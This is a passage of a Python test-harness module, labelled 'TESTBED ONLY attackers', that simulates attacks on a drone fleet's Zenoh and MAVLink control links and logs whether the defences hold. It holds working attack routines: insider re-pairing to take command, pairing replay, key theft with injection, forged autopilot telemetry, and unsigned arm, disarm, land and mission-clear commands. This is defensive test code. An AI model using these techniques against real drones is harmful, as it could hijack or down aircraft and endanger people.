    if cert is not None and key is not None:
        tls.update({"connect_certificate": str(cert), "connect_private_key": str(key), "enable_mtls": True})
    cfg = {"mode": "client", "connect": {"endpoints": [router], "timeout_ms": 3000, "exit_on_failure": True},
           "scouting": {"multicast": {"enabled": False}, "gossip": {"enabled": False}},
           "transport": {"auth": {"usrpwd": {"user": user, "password": password}}, "link": {"tls": tls}}}
    return zenoh.open(zenoh.Config.from_json5(json.dumps(cfg)))


def no_cert(c: Ctx) -> None:
    fleet, drone = c.fleet, c.drone
    if not c.router.startswith("tls/"):
        raise ConfigError(f"--router {c.router}: no-cert needs the fleet's TLS router (demo --tls)")
    ca = node_files(c.fleet_dir, "A").ca
    c.ready()
    if not c.wait_for_go():
        return
    outcome: dict[str, Any] = {}
    with tempfile.TemporaryDirectory() as tmp:
        other_ca, other_key = make_ca()
        cert, key = issue(other_ca, other_key, "A")
        fcert, fkey = Path(tmp) / "A.crt", Path(tmp) / "A.key"
        fcert.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
        fkey.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                           serialization.NoEncryption()))
        for attempt, (crt, k) in {"no_certificate": (None, None), "other_ca": (fcert, fkey)}.items():
            try:
                _tls_session(c.router, "A", c.password("A"), ca, crt, k).close()
                outcome[attempt] = "accepted"
            except zenoh.ZError:
                outcome[attempt] = "refused"
            c.events.write_record(trec.TlsAttempt(attempt=attempt, result=outcome[attempt]))
    x = node_files(c.fleet_dir, "X")
    try:
        s = _tls_session(c.router, "A", c.password("A"), ca, x.cert, x.key)
    except zenoh.ZError:
        outcome["x_certificate"] = "refused"
        c.events.write("attack_done", **outcome, sent=0, pair_answered=0, captured=0)
        return
    outcome["x_certificate"] = "connected"
    captured: queue.SimpleQueue[bytes] = queue.SimpleQueue()
    sub = s.declare_subscriber(kx.down(drone, "A"), lambda smp: captured.put(b""))
    sent, answered = 0, 0
    try:
        ini = PairingInitiator(Identity.generate(), "A", drone, fleet.nodes[drone].public_bytes)
        answered = sum(1 for r in s.get(kx.pair(drone, "A"), payload=ini.start(), timeout=2.0) if r.ok is not None)
        forged = SecureLink(key=LinkKey.from_secret(drone, "A", os.urandom(32)), role="gs", tx_keyexpr=kx.up(drone, "A"),
                            rx_keyexpr=kx.down(drone, "A"), peer_sysid=None, now=0.0)
        sysid_a = fleet.nodes["A"].sysid
        going = c.attack_window()
        while going():
            s.put(_up(drone, "A"), _land(sysid_a))
            s.put(_up(drone, "A"), forged.seal(_land(sysid_a)))
            sent += 2
            c.stop.wait(0.2)
    finally:
        sub.undeclare()
        s.close()
    c.events.write("attack_done", **outcome, sent=sent, pair_answered=answered, captured=captured.qsize())


# ------------------------------------------------------------------- the insider: an authorized GS gone bad
#: insider-heir: how often the attacker pairs again: the drone stops listening to B once a new key is
#: proven (outside the overlap), so each pairing brings a few frames, and B's link stays OK (< 1 s
#: of silence) only if it pairs about once a second (its allowance: 1/s, bursts of 3)
PAIR_EVERY_S = 1.0
#: insider-heir: HEARTBEATs sent at once under each new key (they reach the drone before it stops listening)
PROOF_BURST = 5


def _session_as(c: Ctx, node: str) -> zenoh.Session:
    """A session as fleet member ``node`` with its real credentials: its router password and, with a
    TLS router, its own certificate; with a router per site, at ``node``'s own site's router."""
    if not c.router.startswith("tls/"):
        return open_client(c.router, node, c.password(node))
    router = c.router
    try:
        sites = load_sites(c.fleet_dir)
    except ConfigError:
        sites = {}
    router = next((s["endpoint"] for s in sites.values() if node in s["ground_stations"]), router)
    return open_client(router, node, c.password(node), node_files(c.fleet_dir, node).check())


class _Pairing:
    """One pairing exchange started without blocking: replies land on Zenoh's threads."""

    def __init__(self, ini: PairingInitiator) -> None:
        self.ini = ini
        self.replies: "queue.SimpleQueue[tuple[bytes | None, bytes | None]]" = queue.SimpleQueue()

    def __call__(self, reply: Any) -> None:
        try:
            if reply.ok is not None:
                self.replies.put((reply.ok.payload.to_bytes(), None))
            elif reply.err is not None:
                self.replies.put((None, reply.err.payload.to_bytes()))
        except Exception:  # never raise into Zenoh
            pass


def insider_heir(c: Ctx) -> None:
    fleet, drone = c.fleet, c.drone
    me = load_secret(c.fleet_dir, "B", fleet)  # B's own static key: the drone cannot tell it from B
    s = _session_as(c, "B")
    down: queue.SimpleQueue[bytes] = queue.SimpleQueue()
    sub = s.declare_subscriber(kx.down(drone, "B"), lambda smp: down.put(smp.payload.to_bytes()))
    codec = FrameCodec(fleet.nodes["B"].sysid, ROGUE_COMPID)
    target = fleet.nodes[drone].sysid
    rtl = mav.MAVLink_command_long_message(target, 1, mav.MAV_CMD_NAV_RETURN_TO_LAUNCH, 0, 0, 0, 0, 0, 0, 0, 0)
    arm = mav.MAVLink_command_long_message(target, 1, mav.MAV_CMD_COMPONENT_ARM_DISARM, 0, 1, 0, 0, 0, 0, 0, 0)
    takeoff = mav.MAVLink_command_long_message(target, 1, mav.MAV_CMD_NAV_TAKEOFF, 0, 0, 0, 0, float("nan"),
                                               float("nan"), float("nan"), 20.0)
    names = {mav.MAV_CMD_NAV_RETURN_TO_LAUNCH: "rtl", mav.MAV_CMD_COMPONENT_ARM_DISARM: "arm",
             mav.MAV_CMD_NAV_TAKEOFF: "takeoff"}
    sent: Counter[str] = Counter()
    refusals: Counter[str] = Counter()
    links: list[SecureLink] = []  # every key it paired with, newest last (the drone speaks under the newest)
    pairing: _Pairing | None = None
    owner_at: float | None = None  # wall time the drone first said B holds authority
    failsafe_at: float | None = None
    acks: Counter[str] = Counter()
    try:
        c.ready()
        if not c.wait_for_go():
            return
        going = c.attack_window()
        next_pair = next_beat = next_cmd = 0.0
        epoch = 0
        while going():
            now = time.monotonic()
            if pairing is not None:
                while True:
                    try:
                        ok, err = pairing.replies.get_nowait()
                    except queue.Empty:
                        break
                    if err is not None:
                        refusals[err.decode(errors="replace").split(":")[0][:40]] += 1
                        continue
                    out = pairing.ini.finish(ok or b"")
                    if isinstance(out, LinkKey):
                        links = (links + [SecureLink(key=out, role="gs", tx_keyexpr=kx.up(drone, "B"),
                                                     rx_keyexpr=kx.down(drone, "B"), peer_sysid=target, now=now)])[-3:]
                        sent["pairings"] += 1
                        for _ in range(PROOF_BURST):  # the proof, and frames towards "proven"
                            s.put(_up(drone, "B"), links[-1].seal(codec.encode(_heartbeat())))
                        sent["heartbeats"] += PROOF_BURST
                        c.events.write_record(trec.PairedAs(gs="B"))
            if now >= next_pair:
                next_pair = now + PAIR_EVERY_S
                pairing = _Pairing(PairingInitiator(me.identity, "B", drone, fleet.nodes[drone].public_bytes,
                                                     stamp=time.time()))
                s.get(kx.pair(drone, "B"), pairing, payload=pairing.ini.start(), timeout=2.0)
                sent["pair_queries"] += 1
            if links and now >= next_beat:
                next_beat = now + 0.2
                s.put(_up(drone, "B"), links[-1].seal(codec.encode(_heartbeat())))
                sent["heartbeats"] += 1
            if links and now >= next_cmd:
                next_cmd = now + 0.5
                s.put(_up(drone, "B"), links[-1].seal(codec.encode(rtl)))
                sent["commands"] += 1
                if owner_at is not None or failsafe_at is not None:  # and ask for control, for itself
                    s.put(_up(drone, "B"), links[-1].seal_control(wire.HandoverRequest("B", epoch)))
                    sent["control_requests"] += 1
                if owner_at is not None:  # in command: a landed vehicle is armed and taken off again
                    for msg in (arm, takeoff):
                        s.put(_up(drone, "B"), links[-1].seal(codec.encode(msg)))
                        sent["commands"] += 1
            while True:  # what the drone says to B: who holds authority, the vehicle's answers
                try:
                    data = down.get_nowait()
                except queue.Empty:
                    break
                for link in reversed(links):
                    res = link.open(data, now)
                    if not isinstance(res, Opened):
                        continue
                    if isinstance(res.control, wire.AuthorityStatus):
                        epoch = res.control.epoch
                        if res.control.owner == "B" and owner_at is None:
                            owner_at = time.time()
                        if res.control.state is wire.AuthorityState.FAILSAFE and failsafe_at is None:
                            failsafe_at = time.time()
                    elif isinstance(res.control, wire.FailsafeNotice) and failsafe_at is None:
                        failsafe_at = time.time()
                    elif res.header is not None and res.header.msgid == mav.MAVLINK_MSG_ID_COMMAND_ACK:
                        ack = codec.decode(res.plaintext)
                        if ack is not None and ack.command in names:
                            result = "accepted" if ack.result == mav.MAV_RESULT_ACCEPTED else f"result_{ack.result}"
                            acks[f"{names[ack.command]}:{result}"] += 1
                    break
            c.stop.wait(0.02)
        c.events.write("attack_done", **sent, refusals=dict(refusals), owner_at=owner_at, failsafe_at=failsafe_at,
                       command_acks=dict(acks))
    finally:
        sub.undeclare()
        s.close()


def key_escrow(c: Ctx) -> None:
    fleet, drone = c.fleet, c.drone
    if c.router.startswith("tls/"):
        raise ConfigError("key-escrow injects as the drone: with mutual TLS that needs the drone's certificate")
    me = load_secret(c.fleet_dir, "B", fleet)
    s_b = _session_as(c, "B")
    s_d = open_client(c.router, drone, c.password(drone))  # the drone's router password: may publish on down/*
    s_a = open_client(c.router, "A", c.password("A"))  # A's: may publish on up/<drone>/A
    sent: Counter[str] = Counter()
    refused: Counter[str] = Counter()
    try:
        c.ready()
        if not c.wait_for_go():
            return
        going = c.attack_window()
        seq = 0
        while going():
            ask = KeyShareAsk(me.identity, "B", "A", fleet.nodes["A"].public_bytes, drone, time.monotonic(),
                              wall=time.time())
            sent["queries"] += 1
            secret: bytes | None = None
            for r in s_b.get(kx.linkkey("A", drone), payload=ask.payload, timeout=3.0):
                if r.ok is None:
                    refused[(r.err.payload.to_bytes().decode(errors="replace") if r.err else "?")[:40]] += 1
                    continue
                got = ask.on_reply(r.ok.payload.to_bytes(), time.monotonic())
                if isinstance(got, bytes):
                    secret = got
            if secret is None:
                sent["no_secret"] += 1
                c.stop.wait(1.0)
                continue
            sent["secrets"] += 1
            key = LinkKey.from_secret(drone, "A", secret)  # the key A would use with the drone, had it granted it
            now = time.monotonic()
            as_drone = SecureLink(key=key, role="drone", tx_keyexpr=kx.down(drone, "A"), rx_keyexpr=kx.up(drone, "A"),
                                  peer_sysid=fleet.nodes["A"].sysid, now=now)
            as_a = SecureLink(key=key, role="gs", tx_keyexpr=kx.up(drone, "A"), rx_keyexpr=kx.down(drone, "A"),
                              peer_sysid=fleet.nodes[drone].sysid, now=now)
            for _ in range(3):
                seq += 1
                s_d.put(kx.down(drone, "A"), as_drone.seal_control(wire.SmHeartbeat(seq)))  # to A, as the drone
                s_a.put(_up(drone, "A"), as_a.seal(FrameCodec(fleet.nodes["A"].sysid, ROGUE_COMPID).encode(_heartbeat())))
                sent["injected_down"] += 1
                sent["injected_up"] += 1
                c.stop.wait(0.05)
            c.stop.wait(1.5)  # A's rate limit for B: 1/s, bursts of 3
        c.events.write("attack_done", **sent, refused=dict(refused))
    finally:
        s_a.close()
        s_d.close()
        s_b.close()


def stale_pairing(c: Ctx) -> None:
    fleet, drone = c.fleet, c.drone
    if c.router.startswith("tls/"):
        raise ConfigError("stale-pairing records and replays with the drone's and A's passwords: no certificates")
    # message 1s of A recorded in earlier flights (the genuine pairing code, run now, before this flight:
    # A's key is used here and never again)
    a_key = load_secret(c.fleet_dir, "A", fleet).identity
    held = [PairingInitiator(a_key, "A", drone, fleet.nodes[drone].public_bytes, stamp=time.time()).start()
            for _ in range(c.recorded)]
    del a_key
    if held:
        c.events.write_record(trec.Captured(what=f"{len(held)} pairing message 1s of A recorded earlier", bytes_=len(held[0])))
    s_cap = open_client(c.router, drone, c.password(drone))
    qable = s_cap.declare_queryable(kx.pair(drone, "A"), zenoh.handlers.RingChannel(256))
    s_a = open_client(c.router, "A", c.password("A"))
    captured = {"before": 0, "after": 0}
    results: list[_Replies] = [_Replies() for _ in held]
    seen = set(held)

    def capture(when: str) -> None:
        """Record what A sends (never answered: the genuine drone answers A)."""
        while (q := qable.try_recv()) is not None:
            m1 = q.payload.to_bytes() if q.payload is not None else b""
            q.drop()
            if m1 and m1 not in seen:
                seen.add(m1)
                held.append(m1)
                results.append(_Replies())
                captured[when] += 1
                if captured[when] <= 5:
                    c.events.write_record(trec.Captured(what=f"a pairing message 1 of A, in flight ({when} the restart)", bytes_=len(m1)))

    try:
        c.ready()
        while not c.go.is_set() and not c.stop.is_set():  # record what A sends until told to replay
            capture("before")
            c.stop.wait(0.005)
        if not c.wait_for_go():
            return
        going = c.attack_window()
        replayed = 0
        while going():
            capture("after")  # and go on recording: A's tries the restarted drone never saw, or refused
            answered = [bool(r.snapshot().get("ok", 0)) for r in results]
            # until the restarted drone answers, a few every 10 ms (they must be first in its queue when it
            # comes up); then every one not yet answered every 0.1 s (each refill of the GS's allowance),
            # the newest first (the freshest stamps)
            up = any(answered)
            todo = [i for i in reversed(range(len(held))) if not answered[i]][: None if up else 4]
            for i in todo:
                s_a.get(kx.pair(drone, "A"), results[i], payload=held[i], timeout=1.0)
                replayed += 1
            c.stop.wait(0.1 if up else 0.01)
        c.stop.wait(1.5)  # the last replies
        total: Counter[str] = Counter()
        for r in results:
            total.update(r.snapshot())
        c.events.write("attack_done", held=len(held), captured_before=captured["before"],
                       captured_after=captured["after"], replayed=replayed,
                       answered=sum(1 for r in results if r.snapshot().get("ok", 0)), replies=dict(total))
    finally:
        qable.undeclare()
        s_a.close()
        s_cap.close()
def fc_radio(c: Ctx) -> None:
    """The attacker on the autopilot's TELEM2 (see the module's docstring)."""
    from ..vehicle.modes import set_mode_params
    from ..vehicle.transport import MavTransport

    if c.fc_port is None:
        raise ConfigError("--fc-port is required for fc-radio")
    radio = MavTransport(f"udpout:127.0.0.1:{c.fc_port}")
    codec = FrameCodec(FC_RADIO_SYSID, ROGUE_COMPID)
    sent: Counter[str] = Counter()
    answers: Counter[str] = Counter()
    seen: Counter[str] = Counter()
    autopilot: list[int] = []
    names = {mav.MAV_CMD_COMPONENT_ARM_DISARM: "arm", mav.MAV_CMD_DO_SET_MODE: "mode_land"}

    def listen(seconds: float) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for frame, _ in radio.poll(min(0.05, max(0.0, end - time.monotonic()))):
                seen["signed" if frame[0] == 0xFD and frame[2] & 1 else "unsigned"] += 1
                msg = codec.decode(frame)
                if msg is None:
                    continue
                t = msg.get_type()
                if t == "HEARTBEAT" and msg.autopilot != mav.MAV_AUTOPILOT_INVALID and not autopilot:
                    autopilot.append(msg.autopilot)
                elif t == "COMMAND_ACK" and msg.target_system == FC_RADIO_SYSID and msg.command in names:
                    answers[f"{names[msg.command]}:{'accepted' if msg.result == 0 else 'refused'}"] += 1
                elif t == "MISSION_ACK" and msg.target_system == FC_RADIO_SYSID:
                    answers[f"mission_clear:{'accepted' if msg.type == 0 else 'refused'}"] += 1

    def heartbeat() -> None:
        radio.send(codec.encode(_heartbeat()))

    try:
        heartbeat()
        c.ready()
        if not c.wait_for_go():
            return
        going = c.attack_window()
        until = time.monotonic() + 5.0
        while not autopilot and time.monotonic() < until:  # its telemetry says which autopilot (its mode numbers)
            heartbeat()
            listen(0.5)
        while going():
            heartbeat()
            if answers["mode_land:accepted"]:  # taken over: the vehicle lands where the attacker said
                listen(1.0)
                continue
            ap = "ardupilot" if autopilot and autopilot[0] == mav.MAV_AUTOPILOT_ARDUPILOTMEGA else "px4"
            land = set_mode_params(ap, "LAND") or (1.0, 4.0, 6.0)
            nan = float("nan")
            for label, msg in (
                ("arm", mav.MAVLink_command_long_message(1, 1, mav.MAV_CMD_COMPONENT_ARM_DISARM, 0, 1, 0, 0, 0, 0, 0, 0)),
                ("mode_land", mav.MAVLink_command_long_message(1, 1, mav.MAV_CMD_DO_SET_MODE, 0, *land, nan, nan, nan, nan)),
                ("mission_clear", mav.MAVLink_mission_clear_all_message(1, 1, 0)),
            ):
                radio.send(codec.encode(msg))
                sent[label] += 1
            listen(1.0)
        listen(0.5)
        obeyed = sum(n for k, n in answers.items() if k.endswith(":accepted"))
        c.events.write("attack_done", sent=dict(sent), answers=dict(answers), obeyed=obeyed,
                       answered=sum(answers.values()), telemetry=dict(seen),
                       autopilot=autopilot[0] if autopilot else None)
    finally:
        radio.close()


def fake_autopilot_frames(sysid: int, lat: float, lon: float, alt_m: float, armed: bool, mode: int) -> list[bytes]:
    """What a fake autopilot ``sysid`` says: its HEARTBEAT (PX4, custom ``mode``), a position with a 3D fix
    and its landed state (in air when armed)."""
    codec = FrameCodec(sysid, mav.MAV_COMP_ID_AUTOPILOT1)
    base = mav.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED | (mav.MAV_MODE_FLAG_SAFETY_ARMED if armed else 0)
    landed = mav.MAV_LANDED_STATE_IN_AIR if armed else mav.MAV_LANDED_STATE_ON_GROUND
    return [codec.encode(m) for m in (
        mav.MAVLink_heartbeat_message(mav.MAV_TYPE_QUADROTOR, mav.MAV_AUTOPILOT_PX4, base, mode, mav.MAV_STATE_ACTIVE, 3),
        mav.MAVLink_gps_raw_int_message(0, 3, int(lat * 1e7), int(lon * 1e7), int(alt_m * 1000), 100, 100, 0, 0, 12),
        mav.MAVLink_global_position_int_message(0, int(lat * 1e7), int(lon * 1e7), int(alt_m * 1000),
                                                int(alt_m * 1000), 0, 0, 0, 0),
        mav.MAVLink_extended_sys_state_message(0, landed))]


def fake_autopilot(c: Ctx) -> None:
    """The fake autopilot on the companion host (see the module's docstring)."""
    from ..core.reference import GS_B
    from ..vehicle.modes import custom_mode

    if c.vehicle_port is None:
        raise ConfigError("--vehicle-port is required for fake-autopilot")
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.setblocking(False)
    target = ("127.0.0.1", c.vehicle_port)
    drone_sysid = c.fleet.nodes[c.drone].sysid
    sent: Counter[str] = Counter()
    heard: Counter[str] = Counter()  # what the companion sent the fake, by message
    codec = FrameCodec(FAKE_AUTOPILOT_SYSID, mav.MAV_COMP_ID_AUTOPILOT1)
    land = custom_mode("px4", "LAND") or 0
    mission = custom_mode("px4", "MISSION") or 0

    def send(frames: list[bytes], label: str) -> None:
        for f in frames:
            try:
                sock.sendto(f, target)
            except OSError:  # nobody listening yet (the companion not started): ICMP, try again next turn
                sent["refused"] += 1
                return
        sent[label] += 1

    def listen() -> None:
        while True:
            try:
                data = sock.recv(65535)
            except (BlockingIOError, InterruptedError):
                return
            except OSError:
                continue
            msg = codec.decode(fcsign.strip(data) if fcsign.is_signed(data) else data)
            heard[msg.get_type() if msg is not None else "unparsed"] += 1

    try:
        race = fake_autopilot_frames(FAKE_AUTOPILOT_SYSID, GS_B.lat, GS_B.lon, 0.0, False, mission)
        send(race, "raced")
        c.ready()
        race_until = time.monotonic() + c.duration / 2  # without --wait-go: the first half of the duration
        racing = True
        while racing and not c.stop.is_set():  # racing the real autopilot to the companion, until told
            send(race, "raced")
            listen()
            racing = not c.go.wait(0.02) if c.wait_go else not c.stop.wait(0.02) and time.monotonic() < race_until
        if c.wait_go and not c.go.is_set():
            c.events.write_record(trec.RogueNoGo(stopped=c.stop.is_set()))
            return
        if c.wait_go:
            c.events.write_record(trec.RogueGo())
        going = c.attack_window()
        print("rogue: forging with the autopilot's own ids", flush=True)
        while going():
            send(fake_autopilot_frames(drone_sysid, GS_B.lat, GS_B.lon, 30.0, True, land), "forged_own_ids")
            send(race, "raced")
            listen()
            time.sleep(0.05)
        listen()
        c.events.write("attack_done", sent=dict(sent), heard=dict(heard), heard_total=sum(heard.values()),
                       fake_sysid=FAKE_AUTOPILOT_SYSID, own_ids=[drone_sysid, mav.MAV_COMP_ID_AUTOPILOT1],
                       forged_position=[GS_B.lat, GS_B.lon, 30.0])
    finally:
        sock.close()


class _GcsApp:
    """A MAVLink application on a gateway's udpin port (pymavlink messages, signed with ``key`` as
    ``setup_signing`` does, or not); CONTROL_STATUS decoded with today's layout."""

    def __init__(self, port: int, sysid: int, key: bytes | None = None) -> None:
        from ..core import fcsign as _fcsign

        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.connect(("127.0.0.1", port))
        self.sock.setblocking(False)
        self.enc = mav.MAVLink(None, srcSystem=sysid, srcComponent=190)
        self.dec = mav.MAVLink(None)
        if key is not None:
            for m in (self.enc, self.dec):
                m.signing.secret_key, m.signing.timestamp = key, _fcsign.units(time.time())
            self.enc.signing.sign_outgoing = True
        self.gcs_main: list[int] = []  # every CONTROL_STATUS gcs_main seen
        self.got: list[tuple[float, Any]] = []
        self.autopilot: int | None = None
        self.bad = 0  # frames our own signature check refused
        self._hb = 0.0

    def send(self, msg: Any) -> None:
        try:
            self.sock.send(bytes(msg.pack(self.enc)))
        except OSError:
            pass

    def command(self, command: int, *p: float) -> float:
        since = time.monotonic()
        self.send(mav.MAVLink_command_long_message(1, 1, command, 0, *(list(p) + [0.0] * (7 - len(p)))))
        return since

    def pump(self) -> None:
        from ..core.mavcontrol import decode_control_status

        now = time.monotonic()
        if now - self._hb >= 1.0:
            self._hb = now
            self.send(_heartbeat())
        for _ in range(512):
            try:
                data = self.sock.recv(65536)
            except (BlockingIOError, ConnectionRefusedError, InterruptedError):
                return
            st = decode_control_status(data)
            if st is not None:
                self.gcs_main.append(st.gcs_main)
                continue
            try:
                msg = self.dec.parse_char(data)
            except mav.MAVError:
                self.bad += 1
                continue
            if msg is None:
                continue
            if msg.get_type() == "HEARTBEAT" and msg.get_srcComponent() == 1 and msg.type != mav.MAV_TYPE_GCS:
                self.autopilot = msg.autopilot
            self.got.append((now, msg))

    def of(self, kind: str, since: float = 0.0) -> list[Any]:
        return [m for t, m in self.got if t >= since and m.get_type() == kind]

    def acks(self, command: int, since: float = 0.0) -> list[int]:
        return [m.result for m in self.of("COMMAND_ACK", since) if m.command == command]

    def close(self) -> None:
        self.sock.close()


def local_app(c: Ctx) -> None:
    """The unsigned local application on the owner GS's host (see the module's docstring)."""
    from gs.appkeys import load_keys

    from ..core import fcsign as _fcsign
    from ..core.mavcontrol import MAV_CMD_REQUEST_OPERATOR_CONTROL, MAV_RESULT_NOT_IN_CONTROL
    from ..vehicle.modes import set_mode_params
    from .operator import MODES as OPERATOR_MODES

    if c.gcs_port is None or c.gcs_port_b is None or c.gcs_keys is None:
        raise ConfigError("--gcs-port, --gcs-port-b and --gcs-keys are required for local-app")
    keys = load_keys(c.gcs_keys)
    if not keys:
        raise ConfigError(f"{c.gcs_keys}: no application key")
    b_sysid = c.fleet.nodes["B"].sysid
    ops = _GcsApp(c.gcs_port, 250, keys[0].key)  # A's own operator application, with its key (the control)
    attacker = _GcsApp(c.gcs_port, 42)  # any local process: a fresh UDP socket, no key
    b_ops = _GcsApp(c.gcs_port_b, 255)  # B's operator, on B's gateway
    apps = (ops, attacker, b_ops)
    sent: Counter[str] = Counter()
    result: dict[str, Any] = {}

    def pump(seconds: float) -> None:
        end = time.monotonic() + seconds
        while not c.stop.is_set():
            for app in apps:
                app.pump()
            if time.monotonic() >= end:
                return
            time.sleep(0.01)

    def wait(cond: Callable[[], Any], seconds: float) -> Any:
        end = time.monotonic() + seconds
        while time.monotonic() < end and not c.stop.is_set():
            pump(0.05)
            got = cond()
            if got:
                return got
        return None

    def set_mode(which: str) -> bool:
        modes = OPERATOR_MODES.get(ops.autopilot or mav.MAV_AUTOPILOT_PX4, OPERATOR_MODES[mav.MAV_AUTOPILOT_PX4])
        for _ in range(5):
            since = ops.command(mav.MAV_CMD_DO_SET_MODE, mav.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED, *modes[which])
            if wait(lambda: mav.MAV_RESULT_ACCEPTED in ops.acks(mav.MAV_CMD_DO_SET_MODE, since), 1.0):
                return True
        return False

    try:
        c.ready()
        if not c.wait_for_go():
            return
        t0 = time.monotonic()
        wait(lambda: ops.autopilot is not None, 3.0)
        result["held"] = set_mode("hold")  # A's operator (signed) keeps the drone in the overlap
        result["signed_in_control"] = bool(wait(lambda: ops.gcs_main and ops.gcs_main[-1] == 250, 3.0))
        since = ops.command(mav.MAV_CMD_REQUEST_MESSAGE, mav.MAVLINK_MSG_ID_AUTOPILOT_VERSION)
        result["signed_command"] = (wait(lambda: ops.acks(mav.MAV_CMD_REQUEST_MESSAGE, since), 3.0) or [None])[0]
        asked = time.monotonic()
        shown = None
        for _ in range(10):  # B's operator asks until A's applications are shown its request
            b_ops.command(MAV_CMD_REQUEST_OPERATOR_CONTROL, 1, 0, 20, 255)
            shown = wait(lambda: [m for m in attacker.of("COMMAND_LONG", asked)
                                  if m.command == MAV_CMD_REQUEST_OPERATOR_CONTROL], 1.0)
            if shown:
                break
        result["shown_p4"] = shown[0].param4 if shown else None
        attack_t0, start = time.time(), time.monotonic()
        ardupilot = ops.autopilot == mav.MAV_AUTOPILOT_ARDUPILOTMEGA
        land = set_mode_params("ardupilot" if ardupilot else "px4", "LAND") or (1.0, 4.0, 6.0)
        nan = float("nan")
        guessed = mav.MAVLink(None, srcSystem=42, srcComponent=190)  # a consent signed with a key of its own
        guessed.signing.secret_key, guessed.signing.sign_outgoing = os.urandom(32), True
        guessed.signing.timestamp = _fcsign.units(time.time())
        for _ in range(3):
            for label, msg in (
                ("consent", mav.MAVLink_command_long_message(1, 1, MAV_CMD_REQUEST_OPERATOR_CONTROL, 0, 0, 0, 0, b_sysid,
                                                             0, 0, 0)),
                ("allow_takeover", mav.MAVLink_command_long_message(1, 1, MAV_CMD_REQUEST_OPERATOR_CONTROL, 0, 1, 1, 10,
                                                                    b_sysid, 0, 0, 0)),
                ("mode_land", mav.MAVLink_command_long_message(1, 1, mav.MAV_CMD_DO_SET_MODE, 0, *land, nan, nan, nan,
                                                               nan)),
                ("nav_land", mav.MAVLink_command_long_message(1, 1, mav.MAV_CMD_NAV_LAND, 0, 0, 0, 0, nan, nan, nan, nan)),
                ("disarm", mav.MAVLink_command_long_message(1, 1, mav.MAV_CMD_COMPONENT_ARM_DISARM, 0, 0, 21196, 0, 0, 0,
                                                            0, 0)),
                ("mission_clear", mav.MAVLink_mission_clear_all_message(1, 1, 0)),
                ("set_mode", mav.MAVLink_set_mode_message(1, mav.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED, 4 << 16 | 6 << 24)),
                ("param_read", mav.MAVLink_param_request_read_message(1, 1, b"", 0)),  # by index: any autopilot
            ):
                attacker.send(msg)
                sent[label] += 1
            try:
                attacker.sock.send(bytes(mav.MAVLink_command_long_message(
                    1, 1, MAV_CMD_REQUEST_OPERATOR_CONTROL, 0, 0, 0, 0, b_sysid, 0, 0, 0).pack(guessed)))
                sent["guessed_key_consent"] += 1
            except OSError:
                pass
            pump(1.0)
        pump(3.0)  # what it did, if anything, shows now
        acks = attacker.of("COMMAND_ACK", start)
        refusals = (mav.MAV_RESULT_DENIED, MAV_RESULT_NOT_IN_CONTROL)
        result.update(
            sent=dict(sent), answers=dict(Counter(f"{m.command}:{m.result}" for m in acks)),
            accepted=sum(1 for m in acks if m.result not in refusals),
            refused_commands=sum(1 for m in acks if m.result in refusals),
            mission_denied=sum(1 for m in attacker.of("MISSION_ACK", start) if m.type == mav.MAV_MISSION_DENIED),
            param_values=len(attacker.of("PARAM_VALUE", start)), telemetry=len(attacker.got),
            attacker_saw=sorted(set(attacker.gcs_main)), b_in_control=255 in b_ops.gcs_main,
            signed_still_in_control=bool(ops.gcs_main) and ops.gcs_main[-1] == 250,
            signed_refused_frames=ops.bad, window=[round(attack_t0, 3), round(time.time(), 3)])
        result["resumed"] = set_mode("mission")  # A's operator lets the flight go on
        result["took_s"] = round(time.monotonic() - t0, 2)
        c.events.write("attack_done", **result)
    finally:
        for app in apps:
            app.close()


ATTACKS: dict[str, Callable[[Ctx], None]] = {
    "no-key": no_key, "unauthorized": unauthorized, "key-injection": key_injection,
    "linkkey-knockout": linkkey_knockout, "pair-replay": pair_replay, "pair-flood": pair_flood,
    "uplink-sealed": uplink_sealed, "uplink-unsealed": uplink_unsealed, "gateway-flood": gateway_flood,
    "big-flood": big_flood, "junk-flood": junk_flood, "no-cert": no_cert, "insider-heir": insider_heir,
    "key-escrow": key_escrow, "stale-pairing": stale_pairing, "fc-radio": fc_radio, "fake-autopilot": fake_autopilot,
    "local-app": local_app,
}
assert set(ATTACKS) == set(MODES)


def main(argv: list[str] | None = None) -> int:
    import faulthandler

    from ..crashes import stacks_on_crash
    from ..net.shutdown import route_signals

    stacks_on_crash()  # a crash leaves every thread's stack in our log
    try:  # stuck at the end of a run: the launcher's SIGUSR1 prints every thread's stack to our log
        faulthandler.register(signal.SIGUSR1, all_threads=True)
    except (AttributeError, ValueError, OSError):
        pass
    p = argparse.ArgumentParser(prog="python -m zdrone.sil.rogue", description="TESTBED ONLY attackers")
    p.add_argument("--mode", choices=MODES, required=True)
    p.add_argument("--fleet", required=True)
    p.add_argument("--router", required=True)
    p.add_argument("--drone", default="d1")
    p.add_argument("--duration", type=float, default=20.0, help="seconds of attack")
    p.add_argument("--rate", type=float, default=2.0, help="queries per second (linkkey-knockout, pair-flood)")
    p.add_argument("--gcs-port", type=int, help="UDP port of the GCS gateway (gateway-flood)")
    p.add_argument("--gcs-port-b", type=int, help="UDP port of GS B's GCS gateway (local-app)")
    p.add_argument("--gcs-keys", help="GS A's GCS application key file (local-app: its operator's signed application)")
    p.add_argument("--wait-go", action="store_true", help="set up, then attack on SIGUSR2")
    p.add_argument("--replies", type=int, default=1, help="key-injection: forged replies of each kind per query (1)")
    p.add_argument("--recorded", type=int, default=8,
                   help="stale-pairing: message 1s of A recorded in earlier flights (8)")
    p.add_argument("--fc-port", type=int, help="UDP port of the autopilot's TELEM2 (fc-radio)")
    p.add_argument("--vehicle-port", type=int,
                   help="UDP port the companion listens on for its autopilot (fake-autopilot)")
    p.add_argument("--events")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.WARNING, format="%(asctime)s %(name)s %(levelname)s %(message)s")
    if args.rate <= 0 or args.duration <= 0:
        print("rogue: error: --rate and --duration must be positive", file=sys.stderr)
        return 2
    events = EventLog(args.events, f"rogue-{args.mode}")
